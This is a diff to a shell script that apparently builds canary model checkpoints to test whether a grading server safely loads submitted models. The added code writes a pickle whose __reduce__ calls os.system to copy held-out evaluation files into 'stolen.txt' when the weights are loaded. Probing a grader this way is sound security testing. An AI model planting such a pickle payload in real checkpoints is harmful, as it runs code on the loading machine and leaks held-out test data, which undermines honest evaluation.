@@ -4,7 +4,9 @@ cd "$WORKSPACE"
 post() { echo "CANARY $1 -> $(curl -sS -m 600 -X POST "$GRADING_SERVER_URL/submit" -H 'Content-Type: application/json' -d "{\"model_path\": \"$1\"}")"; }
 cp -rL "$MODEL_PATH" output/auto-map
 cp -rL "$MODEL_PATH" output/auto-map-tokenizer
-mkdir -p output/pickled
+# The base model with its weights replaced by a pickle (its tokenizer kept, so loading reaches the weights).
+cp -rL "$MODEL_PATH" output/pickled
+rm -f output/pickled/*.safetensors output/pickled/*.safetensors.index.json
 python3 - <<'PY'
 import json, os, pickle
 
@@ -26,9 +28,7 @@ class Payload:
     def __reduce__(self):
         return (os.system, ("cat /opt/a2rl/heldout/* > /opt/a2rl/out/stolen.txt",))
 
-d = "output/pickled"
-json.dump(json.load(open(os.path.join(os.environ["MODEL_PATH"], "config.json"))), open(os.path.join(d, "config.json"), "w"))
-with open(os.path.join(d, "pytorch_model.bin"), "wb") as f:
+with open("output/pickled/pytorch_model.bin", "wb") as f:
     pickle.dump({"weight": Payload()}, f)
 print("CANARY built the custom-code checkpoints")
 PY
